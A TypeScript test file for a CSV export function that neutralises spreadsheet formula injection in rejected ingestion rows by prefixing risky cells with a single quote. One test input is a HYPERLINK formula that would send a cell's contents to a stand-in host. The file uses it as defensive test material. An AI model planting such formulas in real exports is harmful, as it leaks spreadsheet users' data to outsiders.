import { parse } from 'csv-parse/sync';
import { IngestionReject } from './entities/ingestion-reject.entity';
import { Ingestion } from './entities/ingestion.entity';
import { rejectsToCsv } from './rejects-csv';

function ingestion(fields: Partial<Ingestion>): Ingestion {
  return Object.assign(new Ingestion(), { tableName: 'departments', sourceKind: 'csv', headerLine: null, detected: null, ...fields });
}

function reject(line: number, record: unknown, fields: Partial<IngestionReject> = {}): IngestionReject {
  return Object.assign(new IngestionReject(), {
    line,
    column: 'id',
    code: 'invalid_integer',
    message: 'id is not an integer',
    record: JSON.stringify(record),
    ...fields,
  });
}

describe('rejectsToCsv and CSV injection', () => {
  it('keeps a rejected line without formula cells byte for byte', async () => {
    const line = 'x ; "Sales; EMEA" ';
    const text = await rejectsToCsv(ingestion({ detected: { delimiter: ';', line_endings: 'crlf' } }), [reject(2, line)]);
    expect(text).toBe(`id;name;line;column;error_code;message\r\n${line};2;id;invalid_integer;id is not an integer\r\n`);
  });

  it('writes a line again with the file\'s delimiter and line break when one of its cells would start a formula', async () => {
    const line = 'x;  "=HYPERLINK(""http://example.invalid?""&A1)" ';
    const text = await rejectsToCsv(ingestion({ detected: { delimiter: ';', line_endings: 'crlf' } }), [reject(2, line)]);
    expect(text.split('\r\n')[1]).toBe('x;"\'=HYPERLINK(""http://example.invalid?""&A1)";2;id;invalid_integer;id is not an integer');
  });

  it.each(['=1+1', '+1', '-5', '@SUM(A1)', '\t=1', '\r=1'])('prefixes a cell %j of a rejected line with a single quote', async (cell) => {
    const line = `"${cell}",Sales`;
    const text = await rejectsToCsv(ingestion({}), [reject(1, line)]);
    const [, record] = parse(text, { relax_column_count: true }) as string[][];
    expect(record.slice(0, 2)).toEqual([`'${cell}`, 'Sales']);
  });

  it('neutralises the columns it adds, and a batch row\'s cells', async () => {
    const evil = reject(0, { id: '@1', name: '-Sales' }, { column: '=col', code: '+code', message: '@message' });
    const text = await rejectsToCsv(ingestion({ sourceKind: 'batch' }), [evil]);
    expect(parse(text)).toEqual([
      ['id', 'name', 'row', 'column', 'error_code', 'message'],
      ["'@1", "'-Sales", '0', "'=col", "'+code", "'@message"],
    ]);
  });

  it('neutralises a formula cell in the file\'s own header line', async () => {
    const text = await rejectsToCsv(ingestion({ headerLine: 'id,=name' }), [reject(2, 'x,Sales')]);
    expect(text.split('\n')[0]).toBe("id,'=name,line,column,error_code,message");
  });
});
